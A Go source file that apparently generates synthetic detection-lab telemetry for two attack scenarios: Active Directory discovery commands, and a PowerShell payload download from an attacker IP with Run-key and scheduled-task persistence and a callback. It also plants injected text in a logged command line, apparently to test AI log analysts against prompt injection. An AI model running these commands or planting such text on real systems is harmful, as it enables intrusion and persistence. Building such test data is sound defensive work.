package lab

import (
	"fmt"
	"strings"
	"time"
)

var _ = register(&Kind{
	Name:        "discovery-burst",
	Description: "a burst of account, group, domain trust and network discovery commands from one shell within minutes",
	Techniques:  []string{"T1033", "T1087.002", "T1069.002", "T1482", "T1016", "T1082", "T1018"},
	Tactics:     []string{"discovery"},
	Tables:      []string{tProcess, tFile, tLogon},
	build:       buildDiscovery,
})

func buildDiscovery(b *builder) error {
	g, r, in := b.g, b.r, b.in
	office, t := b.phished(3 * time.Hour)
	h := office.Host
	t = b.after(t, 2*time.Minute)
	o := g.o
	dom := strings.ToLower(o.ADDomain)
	text := b.injection()
	shell := b.spawn(office, t, g.bin(h, "cmd"), fmt.Sprintf(`"C:\Windows\system32\cmd.exe" /c "whoami /all & rem %s"`, text))
	in.inject(in.rows[len(in.rows)-1], "ProcessCommandLine", shell.Cmd)
	b.conhost(shell)
	cmds := []struct{ key, line string }{
		{"whoami", "whoami  /all"},
		{"net", `net  group "Domain Admins" /domain`},
		{"net", `net  group "Enterprise Admins" /domain`},
		{"net", "net  user /domain"},
		{"nltest", "nltest  /domain_trusts /all_trusts"},
		{"nltest", "nltest  /dclist:" + dom},
		{"ipconfig", "ipconfig  /all"},
		{"systeminfo", "systeminfo "},
		{"net", "net  localgroup administrators"},
		{"net", `net  group "Domain Computers" /domain`},
		{"nslookup", "nslookup  -type=SRV _ldap._tcp.dc._msdcs." + dom},
		{"net", "net  view /all /domain"},
	}
	at := t
	n := 8 + r.IntN(len(cmds)-7)
	for i, c := range sample(r, cmds, n) {
		at = at.Add(time.Duration(4+r.IntN(30))*time.Second + time.Duration(r.IntN(1000))*time.Millisecond).Truncate(time.Microsecond)
		p := b.spawn(shell, at, g.bin(h, c.key), c.line)
		// Defender records the injected comment again as the parent's command line
		if i < 3 {
			in.inject(in.rows[len(in.rows)-1], "InitiatingProcessCommandLine", shell.Cmd)
		}
		if c.key == "net" {
			sub := child(g, r, p, at.Add(15*time.Millisecond), g.bin(h, "net1"), "", strings.Replace(c.line, "net  ", `C:\Windows\system32\net1  `, 1))
			b.proc(sub)
		}
	}
	return nil
}

var _ = register(&Kind{
	Name:        "persistence-run-key-task",
	Description: "a payload dropped in the user's profile and started at every logon through a Run key and a scheduled task",
	Techniques:  []string{"T1547.001", "T1053.005", "T1036.005"},
	Tactics:     []string{"persistence", "execution", "defense-evasion"},
	Tables:      []string{tProcess, tRegistry, tFile, tNetwork, tLogon},
	build:       buildPersistence,
})

func buildPersistence(b *builder) error {
	g, r, in := b.g, b.r, b.in
	office, t := b.phished(26 * time.Hour)
	h := office.Host
	u := h.Primary
	prof := profileDir(u)
	t = b.after(t, 90*time.Second)
	vendor := pick(r, []string{"Microsoft", "Google", "Adobe", "Intel"})
	name := pick(r, []string{"OneDriveUpdater.exe", "GoogleUpdateCore.exe", "AdobeARMHelper.exe", "igfxTrayHelper.exe", "MicrosoftEdgeUpdateCore.exe"})
	dir := fmt.Sprintf(`C:\Users\%s\AppData\Roaming\%s\%s`, prof, vendor, pick(r, []string{"Update", "Helper", "Cache", "Services"}))
	payload := custom(g.o.seed, name, dir, "", "", "", "", int64(90000+r.IntN(900000)))
	dl := b.attacker("")
	in.ip(dl.IP)
	ps := b.spawn(office, t, g.bin(h, "powershell"), fmt.Sprintf(`powershell.exe -nop -w hidden -c "iwr -useb https://%s/%s -OutFile '%s\%s'"`,
		dl.IP, strings.ToLower(alnum(r, 6)), dir, name))
	b.conhost(ps)
	in.add(g.networkRow(&conn{Host: h, T: t.Add(time.Second), Action: "ConnectionSuccess", Proc: ps, LocalIP: h.IP,
		LocalPort: ephemeralPort(r), RemoteIP: dl.IP, RemotePort: 443, Protocol: "Tcp"}))
	in.add(g.fileRow(&fileEv{Host: h, T: t.Add(3 * time.Second), Action: "FileCreated", Proc: ps, Name: name, Dir: dir, Size: payload.Size, h: &payload.h}))
	at := t.Add(time.Duration(10+r.IntN(60)) * time.Second).Truncate(time.Microsecond)
	valName := strings.TrimSuffix(name, ".exe")
	reg := b.spawn(ps, at, g.bin(h, "reg"), fmt.Sprintf(`"C:\Windows\system32\reg.exe" ADD HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v %s /t REG_SZ /d "%s\%s" /f`, valName, dir, name))
	in.add(g.registryRow(&regEv{Host: h, T: at.Add(60 * time.Millisecond), Action: "RegistryValueSet", Proc: reg,
		Key: `HKEY_CURRENT_USER\` + u.SID + `\Software\Microsoft\Windows\CurrentVersion\Run`, ValueName: valName, ValueType: "String", Data: dir + `\` + name}))
	at = at.Add(time.Duration(5+r.IntN(40)) * time.Second)
	task := pick(r, []string{`\Microsoft\Windows\UpdateOrchestrator\`, `\Microsoft\Windows\Maintenance\`, `\`}) + valName + pick(r, []string{"", "Task", " Core"})
	sched := pick(r, []string{"/sc onlogon", "/sc daily /st 09:0" + fmt.Sprint(r.IntN(10)), "/sc minute /mo 30"})
	b.spawn(ps, at, g.bin(h, "schtasks"), fmt.Sprintf(`"C:\Windows\system32\schtasks.exe" /create /tn "%s" /tr "%s\%s" %s /f`, task, dir, name, sched))
	bt := g.bootModel(h, g.bootIndex(h, at))
	schedSvc := bt.byKey["svchost:netsvcs"]
	in.add(g.registryRow(&regEv{Host: h, T: at.Add(120 * time.Millisecond), Action: "RegistryKeyCreated", Proc: schedSvc,
		Key: `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree` + strings.TrimSuffix(task, `\`)}))
	in.add(g.fileRow(&fileEv{Host: h, T: at.Add(150 * time.Millisecond), Action: "FileCreated", Proc: schedSvc,
		Name: base(strings.ReplaceAll(task, `\`, "/")), Dir: `C:\Windows\System32\Tasks` + task[:strings.LastIndex(task, `\`)], Size: int64(3000 + r.IntN(1500))}))
	// the next day, the payload starts with the user's session and calls home
	c2 := b.attacker("")
	in.ip(c2.IP)
	for d := 1; d <= 3; d++ {
		s := g.sessionModel(h, localDay(u.Site.City, t)+d)
		if s == nil || !g.win.contains(s.Work.From.Add(10*time.Minute)) {
			continue
		}
		pt := s.Work.From.Add(time.Duration(20+r.IntN(40)) * time.Second).Truncate(time.Microsecond)
		p := child(g, r, s.Explorer, pt, payload, prof, fmt.Sprintf(`"%s\%s"`, dir, name))
		b.proc(p)
		in.add(g.networkRow(&conn{Host: h, T: pt.Add(time.Duration(2+r.IntN(10)) * time.Second), Action: "ConnectionSuccess", Proc: p,
			LocalIP: h.IP, LocalPort: ephemeralPort(r), RemoteIP: c2.IP, RemotePort: 443, Protocol: "Tcp"}))
		break
	}
	return nil
}
